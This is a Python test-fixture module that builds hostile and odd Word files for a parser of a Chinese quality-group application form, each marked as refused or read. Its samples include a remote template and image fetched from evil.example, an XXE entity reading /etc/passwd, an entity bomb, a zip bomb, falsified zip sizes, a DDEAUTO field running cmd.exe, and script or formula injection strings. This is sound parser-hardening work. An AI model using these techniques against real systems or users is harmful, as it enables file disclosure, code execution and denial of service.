"""Word files that are hostile or odd, made by code: each with what must be answered.

A refused file names the code of its Refusal; a read one says what must be in the cells and in the notices.
"""

import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from xml.sax.saxutils import escape

NS = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'
)
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TITLE = "青海省优秀质量管理小组申报表"


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[], bytes]
    refused: str = ""  # the code of the refusal
    read: dict = field(default_factory=dict)  # key -> entry
    notice: str = ""  # part of one notice
    left: str = ""  # part of one text that found no place


def p(*runs: str, props: str = "") -> str:
    return f"<w:p>{props}{''.join(runs)}</w:p>"


def t(text: str, props: str = "") -> str:
    return f'<w:r>{props}<w:t xml:space="preserve">{escape(text)}</w:t></w:r>'


def tc(*content: str, props: str = "") -> str:
    return f"<w:tc><w:tcPr>{props}</w:tcPr>{''.join(content) or p()}</w:tc>"


def tr(*cells: str) -> str:
    return f"<w:tr>{''.join(cells)}</w:tr>"


def row(*texts: str) -> str:
    return tr(*[tc(p(t(text))) for text in texts])


def tbl(*rows: str) -> str:
    return f"<w:tbl><w:tblPr/><w:tblGrid/>{''.join(rows)}</w:tbl>"


def docx(
    body: str, *, parts: dict[str, bytes] | None = None, rels: str = "", types: str = "", main: str = MAIN,
    prologue: str = HEAD,
) -> bytes:  # fmt: skip
    content_types = (
        f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{types}'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    )
    top = (
        f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/></Relationships>'
    )
    own = f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>'
    files = {
        "[Content_Types].xml": content_types.encode(),
        "_rels/.rels": top.encode(),
        "word/_rels/document.xml.rels": own.encode(),
        "word/document.xml": f"{prologue}<w:document {NS}><w:body>{body}</w:body></w:document>".encode(),
        **(parts or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def part(name: str, content: str) -> bytes:
    return f"{HEAD}<w:{name} {NS}>{content}</w:{name}>".encode()


def relationship(kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rId9" Type="{REL}/{kind}" Target="{target}"{mode}/>'


FORM = p(t(TITLE)) + tbl(row("小组名称", "红柳QC小组", "课题类型", "创新型"), row("课题名称", "降低能耗"))
READ = {"group_name": "红柳QC小组", "topic_name": "降低能耗"}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def with_macros() -> bytes:
    return docx(
        FORM, parts={"word/vbaProject.bin": OLE + bytes(600)}, rels=relationship("vbaProject", "vbaProject.bin")
    )


def macro_type() -> bytes:
    return docx(FORM, main="application/vnd.ms-word.document.macroEnabled.main+xml")


def remote_template() -> bytes:
    settings = f'{HEAD}<w:settings {NS}><w:attachedTemplate r:id="rId9"/></w:settings>'.encode()
    rels = (
        f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{relationship('attachedTemplate', 'http://evil.example/t.dotm', True)}</Relationships>"
    )
    return docx(FORM, parts={"word/settings.xml": settings, "word/_rels/settings.xml.rels": rels.encode()})


def remote_picture() -> bytes:
    return docx(FORM, rels=relationship("image", "http://evil.example/pixel.png", True))


def embedded_object() -> bytes:
    return docx(FORM, parts={"word/embeddings/oleObject1.bin": OLE + bytes(600)},
                rels=relationship("oleObject", "embeddings/oleObject1.bin"))  # fmt: skip


def entity_bomb() -> bytes:
    lol = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    return docx(p("<w:r><w:t>&a11;</w:t></w:r>"), prologue=f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "x">{lol}]>')


def external_entity() -> bytes:
    return docx(p("<w:r><w:t>&x;</w:t></w:r>"),
                prologue='<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')  # fmt: skip


def zip_bomb() -> bytes:
    return docx(FORM, parts={"word/styles.xml": b" " * 120 * 1024 * 1024})


def lying_sizes() -> bytes:
    """The directory says 100 bytes, the data inflates to much more."""
    content = bytearray(docx(FORM, parts={"word/styles.xml": b"<x>" + b" " * 900_000 + b"</x>"}))
    at = content.rindex(b"word/styles.xml")
    content[at - 46 + 24 : at - 46 + 28] = struct.pack("<I", 100)
    return bytes(content)


def encrypted() -> bytes:
    """What Office writes for a password: an OLE file with a stream of this name."""
    return OLE + bytes(500) + "EncryptedPackage".encode("utf-16-le") + bytes(4000)


def encrypted_zip() -> bytes:
    content = bytearray(docx(FORM))
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(sign)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(sign, at + 4)
    return bytes(content)


def damaged() -> bytes:
    content = docx(FORM)
    return content[: len(content) // 2]


def broken_xml() -> bytes:
    return docx("<w:p><w:r></w:p>")


def many_paragraphs() -> bytes:
    return docx(FORM + "".join(p(t(f"第 {number * 7919 % 99991} 行")) for number in range(100_000)))


def deep_tables() -> bytes:
    body = p(t("内"))
    for _ in range(30):
        body = tbl(tr(tc(body + p())))
    return docx(body)


def tracked() -> bytes:
    """The name was changed with tracking on, a row was deleted, two paragraphs were joined."""
    ins = '<w:ins w:id="1" w:author="甲" w:date="2026-01-01T00:00:00Z">'
    gone = '<w:del w:id="2" w:author="甲"><w:r><w:delText>旧名</w:delText></w:r></w:del>'
    name = tr(tc(p(t("小组名称"))), tc(p(t("红柳"), gone, ins, t("QC小组"), "</w:ins>")))
    removed = '<w:tr><w:trPr><w:del w:id="3"/></w:trPr>' + tc(p(t("组长姓名"))) + tc(p(t("不在了"))) + "</w:tr>"
    joined = tc(p(t("降低"), props='<w:pPr><w:rPr><w:del w:id="4"/></w:rPr></w:pPr>'), p(t("能耗")))
    return docx(p(t(TITLE)) + tbl(name, removed, tr(tc(p(t("课题名称"))), joined)))


def nested_tables() -> bytes:
    inner = tbl(row("小组名称", "红柳QC小组"), row("课题名称", "降低能耗"))
    return docx(p(t(TITLE)) + tbl(tr(tc(inner + p()))))


def notes_and_fields() -> bytes:
    field_ = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + t("红柳QC小组")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    foot = '<w:r><w:footnoteReference w:id="2"/></w:r><w:r><w:commentReference w:id="0"/></w:r>'
    parts = {
        "word/footnotes.xml": part("footnotes", f'<w:footnote w:id="2">{p(t("脚注里的话"))}</w:footnote>'),
        "word/comments.xml": part("comments", f'<w:comment w:id="0">{p(t("批注里的话"))}</w:comment>'),
    }
    name = tr(tc(p(t("小组名称"))), tc(p(field_, foot)))
    return docx(p(t(TITLE)) + tbl(name, row("课题名称", "降低能耗")), parts=parts)


def text_box() -> bytes:
    box = f"<w:txbxContent>{p(t('小组名称：红柳QC小组'))}</w:txbxContent>"
    drawn = (
        f'<w:r><mc:AlternateContent><mc:Choice Requires="wps">'
        f"<w:drawing><wps:txbx>{box}</wps:txbx></w:drawing></mc:Choice>"
        f"<mc:Fallback><w:pict>{box}</w:pict></mc:Fallback></mc:AlternateContent></w:r>"
    )
    return docx(p(t(TITLE)) + p(drawn) + tbl(row("课题名称", "降低能耗")))


def boxes_in_boxes() -> bytes:
    """Each level would be read twice as often as the one above it."""
    inside = p(t("底"))
    for _ in range(40):
        inside = p(f"<w:r><w:pict><w:txbxContent>{inside}</w:txbxContent></w:pict></w:r>")
    return docx(FORM + inside)


def wide_row() -> bytes:
    """Every label would look below itself through all cells of the next row."""
    cells = "".join(tc(p(t(f"{number * 7919 % 19997}.小组名称"))) for number in range(9_000))
    return docx(p(t(TITLE)) + tbl(tr(cells), tr(cells)))


def many_controls() -> bytes:
    controls = (
        f'<w:sdt><w:sdtPr><w:tag w:val="x{number * 7919 % 29989}"/></w:sdtPr><w:sdtContent>{t(f"甲{number}")}'
        "</w:sdtContent></w:sdt>"
        for number in range(30_000)
    )
    return docx(FORM + p("".join(controls)))


def blanks_without_end() -> bytes:
    """For patterns that go back and forth over spaces."""
    return docx(FORM + p(t("甲 乙" * 70_000)) + p(t("(" * 50_000)))


def too_much_text() -> bytes:
    return docx(FORM + "".join(p(t(f"{number}" * 200)) for number in range(1000, 3000)))


def many_loose_paragraphs() -> bytes:
    return docx(FORM + "".join(p(t(f"说明{number}")) for number in range(15_000)))


def joined_paragraphs() -> bytes:
    gone = '<w:pPr><w:rPr><w:del w:id="4"/></w:rPr></w:pPr>'
    return docx(FORM + "".join(p(t(f"第{number}段"), props=gone) for number in range(15_000)))


def many_members() -> bytes:
    people = "".join(row(f"姓{number}", "男", "组员") for number in range(6_000))
    return docx(FORM + tbl(row("姓名", "性别", "组内职务"), people))


def endless_number() -> bytes:
    nines = tbl(row("活动次数", "9" * 20_000), row("经济效益", "9" * 20_000))
    return docx(FORM + nines)


def empty() -> bytes:
    return docx(p())


def empty_form() -> bytes:
    return docx(p(t(TITLE)) + tbl(row("小组名称", ""), row("课题名称", "")))


def summary_instead() -> bytes:
    return docx(p(t("2025年企业质量管理小组活动总结")) + p(t("一、基本情况")) + p(t("公司现有职工1250人。")))


def alt_chunk() -> bytes:
    return docx(FORM + '<w:altChunk r:id="rId9"/>', parts={"word/afchunk.html": b"<html>x</html>"},
                rels=relationship("aFChunk", "afchunk.html"),
                types='<Default Extension="html" ContentType="text/html"/>')  # fmt: skip


def hidden_text() -> bytes:
    hidden = t("藏起来的话", "<w:rPr><w:vanish/></w:rPr>")
    return docx(
        p(t(TITLE)) + tbl(tr(tc(p(t("小组名称"))), tc(p(t("红柳QC小组"), hidden))), row("课题名称", "降低能耗"))
    )


def markup() -> bytes:
    return docx(
        p(t(TITLE)) + tbl(row("小组名称", "<script>alert(1)</script>"), row("课题名称", '=HYPERLINK("http://x")'))
    )


def leftover() -> bytes:
    return docx(FORM + p(t("请领导多多支持本小组。")))


def excel_instead() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


CASES = [
    Case("macros", with_macros, refused="macros"),
    Case("docm renamed to docx", macro_type, refused="macros"),
    Case("template from the network", remote_template, refused="external"),
    Case("picture from the network", remote_picture, refused="external"),
    Case("embedded OLE object", embedded_object, refused="embedded"),
    Case("entities that multiply", entity_bomb, refused="dtd"),
    Case("entity that reads a file", external_entity, refused="dtd"),
    Case("zip bomb in a part", zip_bomb, refused="bomb"),
    Case("sizes that lie", lying_sizes, refused="lying"),
    Case("password of Office", encrypted, refused="encrypted"),
    Case("password of the archive", encrypted_zip, refused="encrypted"),
    Case("old .doc renamed", lambda: OLE + bytes(5000), refused="old_format"),
    Case("HTML renamed", lambda: "<html><body>课题名称</body></html>".encode(), refused="wrong_type"),
    Case("PDF renamed", lambda: b"%PDF-1.7\n%%EOF", refused="wrong_type"),
    Case("RTF renamed", lambda: b"{\\rtf1 x}", refused="wrong_type"),
    Case("workbook instead", excel_instead, refused="wrong_type"),
    Case("nothing at all", lambda: b"", refused="empty"),
    Case("cut off", damaged, refused="damaged"),
    Case("broken XML", broken_xml, refused="damaged"),
    Case("a hundred thousand paragraphs", many_paragraphs, refused="too_long"),
    Case("tables thirty deep", deep_tables, refused="nested"),
    Case("rows of nine thousand cells", wide_row, refused="too_long"),
    Case("thirty thousand controls", many_controls, refused="too_long"),
    Case("half a million characters", too_much_text, refused="too_long"),
    Case("texts merged in (altChunk)", alt_chunk, refused="altchunk"),
    Case("attachment 2 instead", summary_instead, refused="wrong_template"),
    Case("empty document", empty, refused="wrong_template"),
    Case("form without entries", empty_form, refused="wrong_template"),
    Case("tracked changes", tracked, read=READ, notice="修订"),
    Case("tables in tables", nested_tables, read=READ),
    Case("fields, footnotes, comments", notes_and_fields, read=READ, notice="脚注"),
    Case("text box", text_box, read=READ, notice="文本框"),
    Case("text boxes forty deep", boxes_in_boxes, read=READ),
    Case("hidden text", hidden_text, read=READ, notice="隐藏"),
    Case("markup and formulas", markup,
         read={"group_name": "<script>alert(1)</script>", "topic_name": '=HYPERLINK("http://x")'}),
    Case("spaces and brackets without end", blanks_without_end, read=READ, left="甲 乙甲"),
    Case("many loose paragraphs", many_loose_paragraphs, read=READ, left="说明14999"),
    Case("paragraphs joined by tracked changes", joined_paragraphs, read=READ, left="第14999段"),
    Case("six thousand members", many_members, read=READ, left="姓1，男，组员"),
    Case("numbers without end", endless_number, read=READ, left="9999999999"),
    Case("words that fit nowhere", leftover, read=READ, left="请领导多多支持"),
]  # fmt: skip
